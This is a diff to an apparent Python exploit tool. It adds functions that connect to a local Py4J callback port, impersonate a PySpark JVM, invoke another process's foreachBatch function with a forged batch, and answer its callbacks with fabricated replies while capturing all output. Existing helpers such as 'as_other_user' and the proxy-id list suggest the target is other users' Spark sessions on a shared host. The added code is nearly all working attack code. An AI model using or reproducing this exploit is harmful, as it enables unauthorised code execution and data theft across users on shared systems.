@@ -19,6 +19,7 @@ from pathlib import Path
 CALLS = ("apply", "call", "__call__", "toString", "hashCode", "equals", "target", "__repr__")
 PROXIES = ("p0", "p1", "p2", "p3", "t", "1")
 LISTENS = "0A"
+MOST = 1 << 20
 
 
 def as_other_user(found: Callable[[], bytes]) -> bytes:
@@ -104,3 +105,35 @@ def ask(port: int, proxy: str, call: str) -> bytes:
     except OSError:
         pass
     return got
+
+
+def play_jvm(port: int, proxies: Iterable[str]) -> bytes:
+    """Call the function of a ``foreachBatch`` with a batch of one's own, number 7, and be its JVM; return all that came."""
+    return b"\n".join(_be_the_jvm(port, proxy) for proxy in proxies)
+
+
+def _be_the_jvm(port: int, proxy: str) -> bytes:
+    got = b""
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as connection, connection.makefile("rb") as stream:
+            connection.settimeout(10)
+            connection.sendall(f"c\n{proxy}\ncall\nro1\ni7\ne\n".encode())
+            while line := stream.readline():
+                got += line
+                if line.startswith((b"!", b"A")) or len(got) > MOST:
+                    break
+                command = [line.strip()]
+                while (part := stream.readline().strip()) not in (b"e", b""):
+                    command.append(part)
+                got += b" ".join(command) + b"\n"
+                connection.sendall(_answer(command))
+    except OSError:
+        pass
+    return got
+
+
+def _answer(command: list[bytes]) -> bytes:
+    """Return what a JVM may say: each name is a class, each member a method, and each method returns an object."""
+    if command[0] == b"r" and command[-1] != b"MODULE$":
+        return b"!ym\n" if command[1] == b"m" else b"!ycany.Class\n"
+    return b"!yv\n" if command[0] == b"m" else b"!yro9\n"
